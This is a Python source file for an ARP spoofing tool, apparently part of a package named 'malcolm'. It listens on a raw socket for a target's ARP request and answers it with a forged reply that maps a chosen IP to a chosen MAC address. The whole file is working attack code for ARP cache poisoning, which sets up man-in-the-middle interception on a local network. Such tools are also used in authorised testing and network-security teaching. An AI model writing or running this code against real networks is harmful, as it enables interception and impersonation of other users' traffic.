"""Wait for an ARP request from the target and answer it with a forged reply."""

from __future__ import annotations

import socket
import sys
from collections.abc import Sequence
from typing import Any, TextIO

from malcolm.packet import ETH_P_ARP, FRAME_SIZE, ArpPacket, build_reply, format_ip
from malcolm.parse import MalcolmConfig, ParseError, parse_args
from malcolm.text import strncmp

RECV_SIZE = 2048
_BROADCAST = b"\xff" * 6


def _ether_ntoa(mac: bytes) -> str:
    return ":".join(f"{byte:x}" for byte in mac)


def _prefix_equal(actual: str, expected: str) -> bool:
    return strncmp(actual, expected, len(expected)) == 0


def is_target_request(packet: ArpPacket, config: MalcolmConfig) -> bool:
    """True when the packet comes from the target asking about the source IP.

    Addresses are compared as text: the sender MAC in its unpadded form and
    both IPs in dotted-quad form must begin with the configured strings.
    """
    return (
        _prefix_equal(_ether_ntoa(packet.sender_mac), config.target_mac)
        and _prefix_equal(format_ip(packet.sender_ip), config.target_ip)
        and _prefix_equal(format_ip(packet.target_ip), config.source_ip)
    )


def send_reply(sock: Any, ifindex: int | str, config: MalcolmConfig, out: TextIO) -> ArpPacket:
    """Send the forged reply out of the given interface (index or name)."""
    reply = build_reply(config)
    name = socket.if_indextoname(ifindex) if isinstance(ifindex, int) else ifindex
    out.write(reply.describe())
    sock.sendto(reply.to_bytes(), (name, 0, 0, 0, _BROADCAST))
    out.write(
        f"[+] ARP packet sent pretending that IP {config.source_ip} "
        f"has MAC {config.source_mac}\n"
    )
    return reply


def listen(sock: Any, config: MalcolmConfig, out: TextIO) -> ArpPacket:
    """Read frames until the target's request arrives, answer it and return it."""
    while True:
        data, address = sock.recvfrom(RECV_SIZE)
        if len(data) < FRAME_SIZE:
            continue
        packet = ArpPacket.from_bytes(data)
        if packet.ether_type != ETH_P_ARP:
            continue
        if is_target_request(packet, config):
            out.write("\n=== ARP Packet Request from target ===\n")
            out.write(packet.describe())
            out.write("===This one wants mango!===\n")
            out.write("Building ARP packet...\n")
            send_reply(sock, address[0], config, out)
            return packet
        out.write("\n=== ARP Packet ===\n")
        out.write(packet.describe())
        out.write("=== ARP Packet end ===\n")


def main(argv: Sequence[str] | None = None) -> int:
    """Run the spoofer; return the process exit status."""
    args = list(sys.argv if argv is None else argv)
    try:
        config = parse_args(args)
    except ParseError as error:
        print(error, file=sys.stderr)
        return 1

    family = getattr(socket, "AF_PACKET", None)
    if family is None:
        print("socket: raw packet sockets are not supported here", file=sys.stderr)
        return 1
    try:
        sock = socket.socket(family, socket.SOCK_RAW, socket.htons(ETH_P_ARP))
    except OSError as error:
        print(f"socket: {error}", file=sys.stderr)
        return 1

    with sock:
        print("Listening for ARP packets...", flush=True)
        try:
            listen(sock, config, sys.stdout)
        except OSError as error:
            print(f"network: {error}", file=sys.stderr)
            return 1
    return 0